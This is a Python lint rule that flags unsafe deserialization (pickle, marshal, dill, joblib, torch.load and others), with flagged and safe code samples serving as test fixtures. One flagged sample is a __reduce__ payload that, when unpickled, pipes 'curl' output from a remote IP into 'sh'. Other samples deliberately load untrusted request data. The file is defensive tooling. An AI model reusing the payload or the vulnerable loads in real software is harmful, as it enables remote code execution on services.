"""Objects deserialized with pickle and friends."""

import libcst as cst
from guidelint.cst import (
    Context,
    Rule,
    RuleMeta,
    Shape,
    assigned_value,
    constant_value,
    is_constant,
    iter_nodes,
    opened_by_with,
)

# callables that a __reduce__ can make every unpickling run
CODE_RUNNERS = frozenset(
    {"exec", "eval", "compile", "os.system", "os.popen", "os.execv", "os.execl", "os.spawnl", "__import__"}
)


class UnsafeDeserialization(Rule):
    meta = RuleMeta.of(
        id="INP101",
        clause="SG-5.3",
        title="Object deserialization of data",
        severity="medium",
        confidence="medium",
        cwe=[502],
        owasp="A08:2021-Software and Data Integrity Failures",
        message="{name}() builds arbitrary objects from its input; whoever controls the data runs code",
        rationale=(
            "pickle, marshal, shelve, dill, jsonpickle and pandas.read_pickle reconstruct arbitrary Python "
            "objects, which lets the author of the data execute code in the service. Data that crossed a "
            "trust boundary (requests, files, queues, caches shared with other systems) must never be "
            "loaded this way. Every load of non-constant data is reported; it warns because the origin "
            "of the data decides how dangerous it is: INP409 (critical, blocking) reports the load that "
            "request data is proven to reach."
        ),
        remediation=(
            "Exchange data as JSON (json.loads) or another data-only format; if the data must be an object "
            "graph, sign it with hmac and verify before loading, and only load what this service wrote."
        ),
        references=("https://docs.python.org/3/library/pickle.html#restricting-globals",),
    )
    nodes = (cst.Call, cst.FunctionDef)
    # the deserializers are the knowledge base's (deserializers.calls); these are their modules
    needles = (
        *("pickle", "cPickle", "marshal", "shelve", "dill", "jsonpickle", "pandas", "joblib", "torch", "numpy"),
        "multiprocessing",
    )
    # reported at a deserializer's call given a value other than a constant (or none), at any .recv()
    # call, and at a __reduce__ method
    shape = Shape(calls=("@deserializers.calls",), bare=True, names=("recv", "__reduce__", "__reduce_ex__"))

    def check_node(self, node: cst.CSTNode, ctx: Context) -> None:
        """Calls of the deserializers; multiprocessing's Connection.recv() unpickles whatever the peer sends;
        a __reduce__ that returns a code runner makes every pickle of the object a payload."""
        if isinstance(node, cst.FunctionDef):
            if node.name.value in ("__reduce__", "__reduce_ex__"):
                runner = _code_runner(node, ctx)
                if runner:
                    ctx.report(
                        node.name,
                        f"{node.name.value} makes unpickling this object call {runner}(): "
                        "its pickles run code wherever they are loaded",
                    )
            return
        if not isinstance(node, cst.Call):
            return
        func = node.func
        if not isinstance(func, cst.Attribute) or func.attr.value in ctx.knowledge.deserializer_names:
            name = ctx.qualname(func)
            if name is not None and name in ctx.knowledge.deserializers:
                self._deserializer(node, name, ctx)
        if not (isinstance(node.func, cst.Attribute) and node.func.attr.value == "recv"):
            return
        receiver = node.func.value
        if isinstance(receiver, cst.Name):
            receiver = assigned_value(ctx, receiver.value, node) or receiver
        if _connection(receiver, ctx):
            ctx.report(node, self.meta.message.format(name="multiprocessing Connection.recv"))

    def _deserializer(self, call: cst.Call, name: str, ctx: Context) -> None:
        if name == "numpy.load" and not _allows_pickle(call):
            return  # numpy refuses pickled object arrays unless allow_pickle=True
        if _round_trip(call, ctx) or _own_store(call, ctx):
            return  # bytes this process made from a live object a moment ago: no outsider wrote them
        if call.args and all(
            _fixed(a.value, ctx) and not _remote(a.value, ctx) for a in call.args if a.keyword is None
        ):
            return  # a fixed file name the service itself controls (a constant or one of a few), or fixed data
        if name == "torch.load" and _weights_only(call):
            return
        if name.endswith(".Unpickler") and _restricted(call, ctx):
            return
        ctx.report(call, self.meta.message.format(name=name))

    flagged = """
        import pickle
        import marshal as m
        from shelve import open as open_shelf

        def restore(request):
            blob = request.get_data()
            state = pickle.loads(blob)  # expect
            code = m.loads(request.files["code"].read())  # expect
            saved = pickle.load(open(request.args["path"], "rb"))  # expect
            with open_shelf(request.args["db"]) as db:  # expect
                return state, code, saved, db

        def load_inside():
            import dill
            return dill.loads(receive())  # expect

        def reload(request, positions):
            data = pickle.dumps(positions)
            if request.args.get("restore"):
                data = request.get_data()  # the client's bytes in place of the copy
            return pickle.loads(data)  # expect

        def load_arrays(upload):
            import cloudpickle
            import numpy as np
            model = cloudpickle.loads(upload.read())  # expect
            arrays = np.load(upload.stream, allow_pickle=True)  # expect
            return model, arrays

        VENDOR_FACTORS = "https://data.vendor.example.com/factors/latest.pkl"

        def vendor_factors():
            import pandas as pd
            factors = pd.read_pickle(VENDOR_FACTORS)  # expect
            return factors, pd.read_pickle("ftp://ftp.vendor.example.com/betas.pkl")  # expect

        def worker_results(address):
            from multiprocessing.connection import Client, Listener
            first = Client(address).recv()  # expect
            listener = Listener(address)
            peer = listener.accept()
            return first, peer.recv()  # expect

        import os

        class Greeting:
            def __reduce__(self):  # expect
                return os.system, ("curl -s http://203.0.113.9/x | sh",)

        def greeting_blob():
            return pickle.dumps(Greeting())

        def cached_report(request):
            with open(os.path.join("/var/cache/reports", request.args["name"]), "rb") as handle:
                return pickle.load(handle)  # expect

        def any_class(module, name):
            return getattr(__import__(module), name)

        def restore_anything(stream):
            # a find_class that refuses nothing restricts nothing
            unpickler = pickle.Unpickler(stream)  # expect
            unpickler.find_class = any_class
            return unpickler.load()

        class SharedCache:
            def __init__(self, backend):
                self._entries = {}
                self._backend = backend

            def put(self, key, value):
                self._entries[key] = pickle.dumps(value)

            def refresh(self, key):
                self._entries.update(self._backend.fetch(key))  # bytes another system wrote

            def get(self, key):
                return pickle.loads(self._entries[key])  # expect

        MODEL_DIR = "/opt/pipeline/models"

        def score(request):
            import joblib
            from pathlib import Path

            return joblib.load(Path(MODEL_DIR) / request.args["model"])  # expect
    """
    safe = """
        import json
        import pickle

        def restore(request):
            return json.loads(request.get_data())

        def defaults():
            with open("defaults.pkl", "rb") as handle:
                return handle.read()

        pickle.dumps({"a": 1})

        def snapshot(positions):
            # a deep copy, and a check that the object can be pickled: bytes made here from a live object
            copied = pickle.loads(pickle.dumps(positions))
            data = pickle.dumps(copied)
            return pickle.loads(data)

        def resume(key):
            import base64
            import hashlib
            import hmac
            from flask import request

            mac, _, blob = request.cookies["state"].partition(".")
            data = base64.b64decode(blob)
            if not hmac.compare_digest(mac, hmac.new(key, data, hashlib.sha256).hexdigest()):
                raise PermissionError("tampered")
            return pickle.loads(data)  # what the server signed itself

        MODEL_DIR = "/opt/pipeline/models"

        def score(frame):
            import joblib
            from pathlib import Path

            model = joblib.load(Path(MODEL_DIR) / "churn.joblib")  # a file of the service's own, by a fixed path
            with open(Path(MODEL_DIR, "encoder.pkl"), "rb") as handle:
                return model.predict(pickle.load(handle).transform(frame))

        def load_arrays(upload):
            import numpy as np
            return np.load(upload.stream), np.load("weights.npy", allow_pickle=True)

        def load_model(large):
            import joblib
            return joblib.load("model-large.pkl" if large else "model-small.pkl")

        def load_catalogue():
            return pickle.load(open("catalogue.pkl", "rb"))

        CACHE = "/var/cache/reports/positions.pkl"

        def cached_positions():
            with open(CACHE, "rb") as handle:  # the service's own cache, named in the code
                return pickle.load(handle)

        ALLOWED = {("collections", "OrderedDict")}

        def only_allowed(module, name):
            if (module, name) not in ALLOWED:
                raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
            return getattr(__import__(module), name)

        def restore_restricted(stream):
            unpickler = pickle.Unpickler(stream)
            unpickler.find_class = only_allowed
            return unpickler.load()

        class LocalMemo:
            # a private store this object fills only with its own pickles: a round trip through its memory
            def __init__(self):
                self._entries: dict[str, bytes] = {}

            def remember(self, key, value):
                self._entries[key] = pickle.dumps(value, protocol=pickle.HIGHEST_PROTOCOL)

            def recall(self, key):
                blob = self._entries.get(key)
                return None if blob is None else pickle.loads(blob)

            def forget(self, key):
                self._entries.pop(key, None)

        class Point:
            def __init__(self, x, y):
                self.x, self.y = x, y

            def __reduce__(self):
                return Point, (self.x, self.y)
    """


# serializers whose output the deserializers read: loads(dumps(obj)) copies an object the process holds
SERIALIZERS = frozenset(
    {"pickle.dumps", "cPickle.dumps", "_pickle.dumps", "dill.dumps", "cloudpickle.dumps", "marshal.dumps"}
    | {"jsonpickle.encode", "jsonpickle.dumps"}
)


def _round_trip(call: cst.Call, ctx: Context) -> bool:
    """The data is what a serializer made of an object in this process, in the call itself or in the value
    last assigned to the name passed (`pickle.loads(pickle.dumps(obj))`: a deep copy, a pickleability
    check): its classes are those of an object the process already holds."""
    data = next((a.value for a in call.args if a.keyword is None), None)
    if isinstance(data, cst.Name):
        data = assigned_value(ctx, data.value, call) or data
    return isinstance(data, cst.Call) and ctx.qualname(data.func) in SERIALIZERS


# reads of a container that leave it as it is, and the emptied container a private store starts as
_STORE_READS = frozenset({"get", "pop", "keys", "values", "items", "clear", "__contains__"})
_EMPTY = frozenset({"dict", "list", "collections.OrderedDict", "collections.deque"})


def _own_store(call: cst.Call, ctx: Context) -> bool:
    """`pickle.loads(self._entries[key])` (or `.get(key)`, or `self._blob`) in a class whose code writes that
    private attribute only with what a serializer made (`self._entries[key] = pickle.dumps(value)`), or sets it
    to an empty container or None: bytes this object pickled itself, a round trip through its own memory. Any
    other use that can write it (`.update(...)`, handed to a call, assigned anything else) proves nothing."""
    data = next((a.value for a in call.args if a.keyword is None), None)
    if isinstance(data, cst.Name):
        data = assigned_value(ctx, data.value, call) or data
    if isinstance(data, cst.Subscript):
        data = data.value
    elif isinstance(data, cst.Call) and isinstance(data.func, cst.Attribute) and data.func.attr.value in ("get", "pop"):
        data = data.func.value
    attr = _self_attribute(data)
    cls = next((n for n in reversed(ctx.ancestors) if isinstance(n, cst.ClassDef)), None)
    if attr is None or not attr.startswith("_") or attr.startswith("__") or cls is None:
        return False
    assignments: list[cst.Assign | cst.AnnAssign | cst.AugAssign] = [*iter_nodes(cls, cst.Assign)]
    for node in [*assignments, *iter_nodes(cls, cst.AnnAssign), *iter_nodes(cls, cst.AugAssign)]:
        targets = [t.target for t in node.targets] if isinstance(node, cst.Assign) else []
        targets += [node.target] if isinstance(node, (cst.AnnAssign, cst.AugAssign)) else []
        value = getattr(node, "value", None)
        for target in targets:
            whole = _self_attribute(target) == attr
            item = isinstance(target, cst.Subscript) and _self_attribute(target.value) == attr
            if isinstance(node, cst.AugAssign) and (whole or item):
                return False
            if whole and not (_serialized(value, ctx) or _emptied(value, ctx)):
                return False
            if item and not _serialized(value, ctx):
                return False
            if any(_self_attribute(t) == attr for t in iter_nodes(target, cst.Attribute)) and not (whole or item):
                return False  # self._entries, other = ...: assigned something not shown
    for used in iter_nodes(cls, cst.Call):
        if any(_self_attribute(a.value) == attr for a in used.args) and used is not call:
            return False  # handed to a call, which may fill it
        func = used.func
        if isinstance(func, cst.Attribute) and _self_attribute(func.value) == attr and not _store_read(used, ctx):
            return False
    return True


def _store_read(call: cst.Call, ctx: Context) -> bool:
    """A method call on the store that leaves it holding pickles: a read, or a setdefault given one."""
    method = call.func.attr.value if isinstance(call.func, cst.Attribute) else ""
    if method == "setdefault":
        return len(call.args) == 2 and _serialized(call.args[1].value, ctx)
    return method in _STORE_READS


def _self_attribute(expr: cst.BaseExpression | None) -> str | None:
    if isinstance(expr, cst.Attribute) and isinstance(expr.value, cst.Name) and expr.value.value == "self":
        return expr.attr.value
    return None


def _serialized(value: cst.BaseExpression | None, ctx: Context) -> bool:
    return isinstance(value, cst.Call) and ctx.qualname(value.func) in SERIALIZERS


def _emptied(value: cst.BaseExpression | None, ctx: Context) -> bool:
    if value is None or (isinstance(value, cst.Name) and value.value == "None"):
        return True
    if isinstance(value, (cst.Dict, cst.List)):
        return not value.elements
    return isinstance(value, cst.Call) and not value.args and (ctx.qualname(value.func) or "") in _EMPTY


def _fixed(expr: cst.BaseExpression, ctx: Context) -> bool:
    """A constant or one of a few constants, or a file opened at such a path: open("model.pkl", "rb"); or
    data a check vouched for (its HMAC compared with hmac.compare_digest). A file object `with open(...) as f`
    binds is judged by the path it was opened at."""
    if isinstance(expr, cst.Name):
        opened = opened_by_with(ctx, expr.value)
        expr = opened if isinstance(opened, cst.Call) and ctx.qualname(opened.func) == "open" else expr
    if isinstance(expr, cst.Call) and ctx.qualname(expr.func) == "open" and expr.args:
        expr = expr.args[0].value
    return is_constant(expr) or ctx.facts(expr).trusted("deserialize")


def _remote(expr: cst.BaseExpression, ctx: Context) -> bool:
    """A URL of another host, written in the code: `pandas.read_pickle("https://vendor.example/x.pkl")` fetches
    and unpickles what that host serves (or whoever is in the way), no file the service wrote."""
    value = constant_value(expr)
    values = [value] if isinstance(value, str) else [v for v in ctx.facts(expr).values or () if isinstance(v, str)]
    return any(v.lower().startswith(("http://", "https://", "ftp://")) for v in values)


def _connection(expr: cst.BaseExpression, ctx: Context) -> bool:
    """A multiprocessing connection: Client(...), or Listener(...).accept() / listener.accept()."""
    if not isinstance(expr, cst.Call):
        return False
    if ctx.qualname(expr.func) == "multiprocessing.connection.Client":
        return True
    if isinstance(expr.func, cst.Attribute) and expr.func.attr.value == "accept":
        listener = expr.func.value
        if isinstance(listener, cst.Name):
            listener = assigned_value(ctx, listener.value, expr) or listener
        return isinstance(listener, cst.Call) and ctx.qualname(listener.func) == "multiprocessing.connection.Listener"
    return False


def _code_runner(function: cst.FunctionDef, ctx: Context) -> str | None:
    """The code-running callable a __reduce__ returns first in its tuple, e.g. os.system."""
    for statement in iter_nodes(function, cst.Return):
        value = statement.value
        if isinstance(value, cst.Tuple) and value.elements:
            name = ctx.qualname(value.elements[0].value) or ""
            if name.removeprefix("builtins.") in CODE_RUNNERS or name.startswith("subprocess."):
                return name.removeprefix("builtins.")
    return None


def _restricted(call: cst.Call, ctx: Context) -> bool:
    """unpickler = pickle.Unpickler(f) followed by unpickler.find_class = allowed_only: the documented
    way to restrict which classes a pickle may name."""
    parent = ctx.ancestors[-1] if ctx.ancestors else None
    if not (isinstance(parent, cst.Assign) and len(parent.targets) == 1):
        return False
    target = parent.targets[0].target
    if not isinstance(target, cst.Name):
        return False
    scope = ctx.function or ctx.module
    functions = {f.name.value: f for f in iter_nodes(ctx.module, cst.FunctionDef)}
    for assign in iter_nodes(scope, cst.Assign):
        for t in assign.targets:
            if (
                isinstance(t.target, cst.Attribute)
                and t.target.attr.value == "find_class"
                and isinstance(t.target.value, cst.Name)
                and t.target.value.value == target.value
                and isinstance(assign.value, cst.Name)
                and assign.value.value in functions
                and _refuses(functions[assign.value.value], functions)
            ):
                return True
    return False


def _refuses(fn: cst.FunctionDef, functions: dict[str, cst.FunctionDef]) -> bool:
    """A replacement find_class that refuses something: it raises, itself or in a function of the module it
    calls. One that refuses nothing (`getattr(__import__(module), name)`) restricts nothing."""
    if any(True for _ in iter_nodes(fn, cst.Raise)):
        return True
    return any(
        isinstance(c.func, cst.Name)
        and c.func.value in functions
        and functions[c.func.value] is not fn
        and any(True for _ in iter_nodes(functions[c.func.value], cst.Raise))
        for c in iter_nodes(fn, cst.Call)
    )


def _weights_only(call: cst.Call) -> bool:
    for a in call.args:
        if a.keyword is not None and a.keyword.value == "weights_only":
            return isinstance(a.value, cst.Name) and a.value.value == "True"
    return False


def _allows_pickle(call: cst.Call) -> bool:
    for a in call.args:
        if a.keyword is not None and a.keyword.value == "allow_pickle":
            return not (isinstance(a.value, cst.Name) and a.value.value == "False")
    return False
